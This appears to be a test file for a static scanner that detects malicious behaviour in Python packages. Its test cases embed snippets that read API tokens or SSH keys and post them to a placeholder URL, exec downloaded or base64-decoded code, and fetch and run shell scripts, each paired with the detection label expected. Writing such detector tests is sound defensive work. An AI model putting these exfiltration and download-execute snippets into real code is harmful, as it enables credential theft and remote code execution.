"""Texts that each show one thing about the syntax frontend and value provenance, with what must be found in them."""

from __future__ import annotations

from pyspark.sql import functions as F

from brindle.plans import views as V
from brindle.sources import frontend

HEAD = "import os, base64, requests, subprocess, platform\nfrom pathlib import Path\n"
#: what it shows, file name, text, events but imports
EVENTS = (
    ('x3_import_binds_head', 'a.py', "import os.path\nos.system('x')\n", 'PROCESS_EXEC x import <module>'),
    ('x3_from_alias', 'a.py', "from os import system as s\ns('x')\n", 'PROCESS_EXEC x import <module>'),
    ('x4_destructuring', 'a.py', "import os\na, b = os.getenv, os.system\na('T')\nb('y')\n", 'ENV_READ T import <module>, PROCESS_EXEC y import <module>'),
    ('x4_shadowed', 'a.py', "import os\nos = 1\nos.system('x')\n", ''),
    ('x4_right_side_first', 'a.py', "import os\nos = os.getenv('T')\n", ''),
    ('x5_class_scope', 'a.py', "import os\nclass C:\n    s = os.system\n    def f(self):\n        s('x')\n", ''),
    ('x5_parameter', 'a.py', "import os\ndef f(os):\n    os.system('x')\n", ''),
    ('x6_with_handle', 'a.py', "with open('a.txt') as h:\n    h.read()\n", 'FILE_READ a.txt import <module>, FILE_READ a.txt import <module>'),
    ('x7_environ', 'a.py', "import os\nos.environ['A']\n", 'ENV_READ A import <module>'),
    ('x8_arguments_first', 'a.py', "import os, requests\nrequests.post('u', data=os.getenv('T'))\n", 'ENV_READ T import <module>, NETWORK_SEND u import <module>'),
    ('x8_urlopen', 'a.py', "import urllib.request\nurllib.request.urlopen('u')\nurllib.request.urlopen('v', data=b'x')\n", 'NETWORK_RECEIVE u import <module>, NETWORK_SEND <bytes:1> import <module>'),
    ('x8_literal_import', 'a.py', "__import__('json')\n", ''),
    ("x8_dynamic_import", "a.py", "n = input()\n__import__(n)\n", "DYNAMIC_IMPORT __import__ import <module>"),
    ('x9_written_handle', 'a.py', "h = open('b', 'w')\nh.write('x')\n", 'FILE_WRITE b import <module>, FILE_WRITE b import <module>'),
    ('x10_receiver_path', 'a.py', "from pathlib import Path\nPath('/home/u/.ssh/id_rsa').read_text()\n", 'SENSITIVE_FILE_READ /home/u/.ssh/id_rsa import <module>'),
    ('x10_process_head', 'a.py', "import subprocess\nsubprocess.run(['bash', '-c', 'x'])\n", 'PROCESS_EXEC bash import <module>'),
    ('x11_client', 'a.py', "import requests\ns = requests.Session()\ns.post('u')\n", 'NETWORK_SEND u import <module>'),
    ('x11_import_chain', 'a.py', "__import__('os').system('x')\n", 'PROCESS_EXEC x import <module>'),
    ("x12_install", "setup.py", "import os\nos.getuid()\ndef f():\n    os.getuid()\n", "SYSTEM_DISCOVERY os.getuid install <module>, SYSTEM_DISCOVERY os.getuid runtime f"),
    ("x1_error", "a.py", "def (:\n", "parse error"),
)
#: what it shows, text after HEAD, exact paths
PATHS = (
    ('x13_straight', "t = os.getenv('API_TOKEN')\nx = base64.b64encode(t)\nrequests.post('u', data=x)\n", 'credential_or_file_exfil ENV_READ>ENCODE>NETWORK_SEND'),
    ('x14_reassigned', "t = os.getenv('API_TOKEN')\nt = 'safe'\nrequests.post('u', data=t)\n", ''),
    ('x14_branch', "t = os.getenv('API_TOKEN')\nif t:\n    t = 'a'\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x14_try', "try:\n    t = os.getenv('API_TOKEN')\nexcept ValueError:\n    t = ''\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x14_loop', "t = ''\nfor i in range(3):\n    t = t + os.getenv('API_TOKEN')\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x14_match', "t = os.getenv('API_TOKEN')\nmatch t:\n    case 'a':\n        t = 'b'\n    case _:\n        pass\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x15_comprehension', "t = [os.getenv('API_TOKEN') for _ in range(2)]\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x15_dict', "t = {'k': os.getenv('API_TOKEN')}\nrequests.post('u', json=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x16_unknown_call', "t = wrap(os.getenv('API_TOKEN'))\nrequests.post('u', data=t)\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND'),
    ('x17_summary', "def f(v):\n    return v\nrequests.post('u', data=f(os.getenv('API_TOKEN')))\n", 'credential_or_file_exfil ENV_READ>NETWORK_SEND by summary'),
    ('x17_recursion', "def f(n):\n    return f(n)\nexec(f(base64.b64decode('eA==')))\n", 'encoded_execution DECODE>DYNAMIC_EXEC by summary'),
    ('x18_not_payload', "t = os.getenv('API_TOKEN')\nrequests.post(t)\n", ''),
    ('x19_staged', "Path('x.sh').write_bytes(requests.get('u').content)\nsubprocess.run(['sh', 'x.sh'])\n", 'download_execute NETWORK_RECEIVE>PROCESS_EXEC'),
    ('x19_other_file', "Path('x.sh').write_bytes(requests.get('u').content)\nsubprocess.run(['sh', 'y.sh'])\n", ''),
    ('x20_download', "exec(requests.get('u').text)\n", 'download_execute NETWORK_RECEIVE>DYNAMIC_EXEC'),
    ('x20_decoded', "exec(base64.b64decode('eA=='))\n", 'encoded_execution DECODE>DYNAMIC_EXEC'),
    ('x20_discovery', "requests.post('u', data=platform.node())\n", 'fingerprinting_transfer SYSTEM_DISCOVERY>NETWORK_SEND'),
    ('x21_deleted', "t = os.getenv('API_TOKEN')\ndel t\nrequests.post('u', data=t)\n", ''),
    ('x21_unpacked', "a, t = 'x', os.getenv('API_TOKEN')\nrequests.post('u', data=a)\n", ''),
    ('x22_no_pair', "requests.post('u', data='x')\n", ''),
)


def _files(spark, d, cases):
    """Every case once for each nation, as files of a target of its own."""
    rows = spark.createDataFrame([(name, path, bytearray(text.encode())) for name, path, text in cases], "name string, path string, content binary")
    nations = V.table(spark, d, "nation").select("n_nationkey")
    return rows.crossJoin(F.broadcast(nations)).select(F.concat_ws("|", "name", "n_nationkey").alias("target_id"), "path", "content")  # two constant tables


def _counted(found):
    return found.groupBy(F.substring_index("target_id", "|", 1).alias("name"), "found").agg(F.count("*").alias("nations"))


def x3_x12_events(spark, d):
    """Imports, aliases, scopes, handles, subscripts, calls, clients, phases and errors, by case."""
    a = frontend.extract(_files(spark, d, [c[:3] for c in EVENTS]))
    seen = F.transform(F.filter("events", lambda e: e["op"] != "IMPORT"), lambda e: F.concat_ws(" ", e["op"], e["target"], e["phase"], e["function"]))
    return _counted(a.select("target_id", F.when(F.col("parse_error").isNotNull(), "parse error").otherwise(F.array_join(seen, ", ")).alias("found")))


def x13_x22_paths(spark, d):
    """Statements, expressions, calls, summaries, payloads, staged files and bindings, by case."""
    a = frontend.extract(_files(spark, d, [(name, "a.py", HEAD + text) for name, text, _ in PATHS]))
    ops = lambda x: F.array_join(F.transform(x["event_indexes"], lambda i: F.col("events")[i]["op"]), ">")
    seen = F.array_sort(F.transform("exact", lambda x: F.concat(x["motif"], F.lit(" "), ops(x), F.when(x["through_summary"], " by summary").otherwise(""))))
    return _counted(a.select("target_id", F.array_join(seen, ", ").alias("found")))


#: what it shows, tokens, canonical tokens
TOKENS = (
    ("legacy", ["FILE", "P:import|C:sink|O:PROCESS_EXEC|T:bash", "P:import|C:sink|O:PROCESS_EXEC|T:sh", "MOTIF:download-execute", "EFFECT:ENTRY:install-time", "PURPOSE:local code transformer", "other", "other"],
     "FILE, P:import|C:sink|O:PROCESS_EXEC|T:process_shell, PATH:download_execute|K:dataflow|Q:high, other, EFFECT:ENTRY:import_time_effects, EFFECT:DESTINATION:process, EFFECT:FLOW:network_to_execution, PURPOSE:local_code_transformer|Q:medium, PURPOSE:remote_code_executor|Q:high"),
    ("nothing", [], "FILE, EFFECT:ENTRY:library_callable"),
)
#: texts of one target, by target: those of one class have one levelled hash
LEVELLED = (("a", "x", "def f(a):\n  return a + 1"), ("b", "x", "def g(b):\n  return b + 2"), ("c", "y", "def g(b):\n  return b - 2"), ("d", "z", "def ("), ("e", "w", "def  ("))


def f8_token_cases(spark, d):
    from brindle.functions.canonical import canonical_tokens

    rows = spark.createDataFrame([(name, tokens) for name, tokens, _ in TOKENS], "name string, tokens array<string>")
    t = canonical_tokens(rows.crossJoin(F.broadcast(V.table(spark, d, "nation").select("n_nationkey"))).select(F.concat_ws("|", "name", "n_nationkey").alias("sample_id"), "tokens"))
    return _counted(t.select(F.col("sample_id").alias("target_id"), F.array_join("tokens", ", ").alias("found")))


def f21_levelled_hashes(spark, d):
    """Targets whose texts differ in names and literals only share a hash; texts that do not parse count as they are."""
    h = frontend.normalised_hash(_files(spark, d, [(name, "a.py", text) for name, _, text in LEVELLED]))
    together = h.groupBy("ast_hash").agg(F.array_join(F.array_sort(F.collect_set(F.substring_index("target_id", "|", 1))), ",").alias("together"), F.count("*").alias("targets"))
    return together.select("together", "targets")


def s18_report_fields(spark, d):
    """Fields of JSON reports on generated sources."""
    from brindle.plans.scan import report, scan
    from brindle.sources.generators import corpus

    r = report(scan(corpus(spark, V.table(spark, d, "orders").count() // 10)))
    get = lambda path, kind="string": F.get_json_object("report", f"$.{path}").cast(kind)
    return r.select("target_id", get("verdict").alias("verdict"), get("risk_score", "double").alias("risk_score"), get("files", "long").alias("files"), get("parse_errors", "long").alias("parse_errors"), get("evidence[0].name").alias("first"), get("evidence[0].path").alias("at"))


def a21_claim_states(spark, d):
    """The claim by intervals and evidence: what is missing, underpowered, supported and not."""
    from brindle.operators.comparison import claim_gate

    out = None
    for name, recall, fpr, enough in CLAIMS:
        rows = [(m, v, w) for m, v, w in (("recall", recall, 0.9), ("false_positive_rate", -0.9, fpr)) if v is not None and w is not None]
        intervals = spark.createDataFrame(rows, "metric string, lower double, upper double")
        g = claim_gate(intervals, spark.createDataFrame([(enough,), (True,)], "target_supported boolean")).withColumn("name", F.lit(name))
        out = g if out is None else out.unionByName(g)
    return out


CLAIMS = (("none", None, -0.1, True), ("few", 0.1, -0.1, False), ("good", 0.1, 0.0, True), ("flat", 0.0, -0.1, True), ("worse", 0.1, 0.1, True))


def _sql(cases) -> str:
    return f"WITH c(name, found) AS (VALUES {', '.join(f"('{name}', '{found}')" for name, found in cases)}) SELECT name, found, count(*)::BIGINT nations FROM c, nation GROUP BY ALL"


SQL = {
    "x3_x12_events": _sql([(c[0], c[3]) for c in EVENTS]), "x13_x22_paths": _sql([(c[0], c[2]) for c in PATHS]), "f8_token_cases": _sql([(c[0], c[2]) for c in TOKENS]),
    "f21_levelled_hashes": "SELECT together, n * count(*)::BIGINT targets FROM nation, (VALUES ('a,b', 2), ('c', 1), ('d', 1), ('e', 1)) v(together, n) GROUP BY together, n",
    "s18_report_fields": "WITH c AS (SELECT unnest(range(0, (SELECT count(*) // 10 FROM orders))) i) SELECT 'pkg' || (i // 20) target_id, 'review' verdict, 36.0::DOUBLE risk_score, count(*)::BIGINT files, 0::BIGINT parse_errors, 'credential_or_file_exfil' AS first, 'src/m' || (20 * (i // 20)) || '.py' AS at FROM c GROUP BY i // 20",
    "a21_claim_states": "SELECT * FROM (VALUES ('none', 'not-assessed', false, false, true), ('few', 'underpowered-target-fpr', false, true, false), ('good', 'supported', true, true, true), ('flat', 'not-supported', false, false, true), ('worse', 'not-supported', false, false, true)) v(name, status, supported, paired_effect_supported, target_supported)",
}
